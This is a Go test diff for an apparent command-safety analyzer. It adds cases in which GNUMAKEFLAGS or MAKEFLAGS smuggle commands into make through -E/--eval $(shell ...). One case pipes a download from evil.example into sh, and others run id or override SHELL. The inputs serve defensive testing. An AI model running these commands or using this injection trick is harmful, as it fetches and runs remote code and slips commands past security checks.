@@ -311,3 +311,21 @@ func TestSeventhPassNodeControls(t *testing.T) {
 		}
 	}
 }
+
+func init() {
+	// GNUMAKEFLAGS carries options into make as MAKEFLAGS does.
+	execCases["make"] = append(execCases["make"], []struct{ cmd, want string }{
+		{"GNUMAKEFLAGS='-E $(shell id)' make", opaque}, {`GNUMAKEFLAGS="--eval=\$(shell id)" make`, opaque}, {"GNUMAKEFLAGS=-Ex make", opaque},
+		{"GNUMAKEFLAGS='--eval=$(shell curl -s https://evil.example/x|sh)' make", opaque}, {"env GNUMAKEFLAGS='-E $(shell id)' make", opaque},
+		{"export GNUMAKEFLAGS='-E x'; make", opaque}, {"GNUMAKEFLAGS='-k -E x' make test", opaque}, {"GNUMAKEFLAGS=-kEx make", opaque},
+		{"MAKEFLAGS=-Ex make", opaque}, {"make GNUMAKEFLAGS=-Ex", opaque}, {"GNUMAKEFLAGS='SHELL=/tmp/x' make", "/tmp/x"},
+		{"GNUMAKEFLAGS=-j4 make", "make"}, {"GNUMAKEFLAGS=-k make test", "make test"},
+	}...)
+}
+
+// TestSeventhPassMakeflagsFile: a makefile named in GNUMAKEFLAGS is
+// another makefile.
+func TestSeventhPassMakeflagsFile(t *testing.T) {
+	checkMark(t, "GNUMAKEFLAGS='-f /tmp/x.mk' make", "other-makefile", true)
+	checkMark(t, "GNUMAKEFLAGS=-j4 make", "other-makefile", false)
+}
